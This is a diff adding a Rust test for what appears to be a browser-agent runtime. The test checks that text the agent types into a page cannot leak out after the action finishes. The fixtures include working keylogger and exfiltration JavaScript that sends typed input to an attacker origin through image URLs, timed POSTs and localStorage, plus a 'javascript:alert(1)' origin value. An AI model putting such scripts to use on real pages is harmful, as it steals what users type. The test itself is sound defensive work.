@@ -1226,3 +1226,196 @@ async fn answering_a_dialog_is_an_action_and_a_password_prompt_is_a_secret() {
         "nothing reached the attacker: {reached:?}"
     );
 }
+
+/// Issue 29: what the agent typed left later. A keylogger's image path, a timer, the storage
+/// the next page of the site reads back — all after the action's window, none of them judged.
+/// A tab an action typed into is held: while it stays on the origin typed into, its requests go
+/// only where the actions on it were judged to reach, static images included; it stays
+/// attached past its idle window and its turn's end to keep that; what it refused is in the
+/// next receipt and, per origin, in the person's tab list, where the person (only) can allow an
+/// origin for the tab. A WebSocket cannot be blocked: typing refuses while one to another origin
+/// is open.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_the_agent_typed_stays_where_the_person_sent_it() {
+    let env = env_with("hostile-held", true, |c| {
+        c.debugger_idle_detach = Duration::from_millis(200)
+    })
+    .await;
+    let attacker = FixtureServer::start().await.unwrap();
+    let evil = attacker.origin();
+    env.server.html(
+        "/note.html",
+        format!(
+            r#"<!doctype html><title>Note</title><input aria-label=Note id=n><a href="/next.html">Next</a>
+<script>
+n.addEventListener('input', () => {{ new Image().src = '{evil}/k/' + btoa(n.value) + '.png'; localStorage.note = n.value; }});
+setInterval(() => {{ if (n.value) fetch('{evil}/timer', {{method: 'POST', body: n.value, mode: 'no-cors'}}).catch(() => {{}}); }}, 300);
+</script>"#
+        ),
+    );
+    env.server.html(
+        "/next.html",
+        format!(
+            r#"<!doctype html><title>Next</title><button>Sent</button>
+<script>
+const send = () => fetch('{evil}/later', {{method: 'POST', body: localStorage.note || 'none', mode: 'no-cors'}}).catch(() => {{}});
+send(); setInterval(send, 300);
+</script>"#
+        ),
+    );
+    let surface = crate::open(&env.runtime, &env.session, &env.server.url("/note.html"))
+        .await
+        .unwrap();
+    let o = crate::observe_until(&env.runtime, &env.session, "Note").await;
+    let field = o
+        .interactive_elements()
+        .iter()
+        .find(|e| e.name() == "Note")
+        .unwrap()
+        .element()
+        .as_str()
+        .to_owned();
+    let typed = protocol::validate_extended_action(&serde_json::json!({"type": "type",
+        "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "element", "ref": field},
+        "text": "hunter-typed-7", "intent": "t"}))
+    .unwrap();
+    env.runtime
+        .act(
+            &env.session,
+            None,
+            &typed,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap();
+    // Well past the idle window and the action's tail: the tab stays attached, held.
+    let reached = reached_after_the_window(&attacker).await;
+    assert!(
+        reached.is_empty(),
+        "nothing reached the attacker: {reached:?}"
+    );
+    let status = env.runtime.status(&env.session).unwrap();
+    let lease = &status.debugger_leases[0];
+    assert!(lease.attached && lease.network_held, "{lease:?}");
+    let tab = |env: &crate::Env| {
+        env.runtime
+            .tabs_for_person()
+            .unwrap()
+            .into_iter()
+            .find(|t| t["state"] == "open")
+            .unwrap()
+    };
+    let listed = tab(&env);
+    let refused = listed["network_hold"]["refused"]
+        .as_array()
+        .unwrap()
+        .clone();
+    assert!(
+        refused
+            .iter()
+            .any(|r| r["origin"] == evil.as_str() && r["requests"].as_u64() > Some(1)),
+        "the person sees what was refused, per origin: {listed}"
+    );
+    // The next page of the site reads the text back from storage: still held.
+    let o = env
+        .runtime
+        .observe(&env.session, None, &Default::default())
+        .await
+        .unwrap();
+    let next = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &click(&o, "Next"),
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap();
+    assert!(
+        next.blocked.iter().any(|b| b.origin == evil),
+        "the receipt names what was refused since the typing: {:?}",
+        next.receipt
+    );
+    crate::observe_until(&env.runtime, &env.session, "Sent").await;
+    // A turn's end detaches every lease, but not this one's.
+    env.runtime
+        .mark(&env.session, surface, runtime::Mark::Handoff, "turn_1")
+        .await
+        .unwrap();
+    env.runtime.end_turn(&env.session, "turn_1").await.unwrap();
+    let reached = reached_after_the_window(&attacker).await;
+    assert!(
+        reached.is_empty(),
+        "nothing reached the attacker: {reached:?}"
+    );
+    assert!(env.runtime.status(&env.session).unwrap().debugger_leases[0].network_held);
+    // The agent cannot widen the hold; a person can, for this tab, one origin at a time.
+    let resource = tab(&env)["tab"].as_str().unwrap().to_owned();
+    let bad = env
+        .runtime
+        .allow_origin_for_tab(&resource, "javascript:alert(1)")
+        .unwrap_err();
+    assert_eq!(bad.code(), ErrorCode::InvalidAction, "{bad}");
+    let hold = env.runtime.allow_origin_for_tab(&resource, &evil).unwrap();
+    assert!(hold.allowed.contains(&evil), "{hold:?}");
+    crate::eventually("the allowed origin is reached", || {
+        attacker
+            .requests_to("/later")
+            .iter()
+            .any(|r| r.body == b"hunter-typed-7")
+    })
+    .await;
+
+    // A WebSocket the page holds open cannot be blocked: typing is refused while it is.
+    let sockets = FixtureServer::start().await.unwrap();
+    sockets.route(
+        "/ws",
+        test_support::Route::Slow {
+            delay: Duration::from_secs(30),
+            inner: Box::new(test_support::Route::Html(String::new())),
+        },
+    );
+    let ws = sockets.origin().replacen("http://", "ws://", 1);
+    env.server.html(
+        "/socket.html",
+        format!(
+            r#"<!doctype html><title>Socket</title><input aria-label=Code><script>window.s = new WebSocket('{ws}/ws');</script>"#
+        ),
+    );
+    crate::open(&env.runtime, &env.session, &env.server.url("/socket.html"))
+        .await
+        .unwrap();
+    crate::eventually("the socket is connecting", || {
+        !sockets.requests_to("/ws").is_empty()
+    })
+    .await;
+    let o = crate::observe_until(&env.runtime, &env.session, "Code").await;
+    let field = o
+        .interactive_elements()
+        .iter()
+        .find(|e| e.name() == "Code")
+        .unwrap()
+        .element()
+        .as_str()
+        .to_owned();
+    let typed = protocol::validate_extended_action(&serde_json::json!({"type": "type",
+        "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "element", "ref": field},
+        "text": "4242", "intent": "t"}))
+    .unwrap();
+    let refused = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &typed,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap_err();
+    assert_eq!(refused.code(), ErrorCode::InvalidAction, "{refused}");
+    assert!(refused.to_string().contains("WebSocket"), "{refused}");
+}
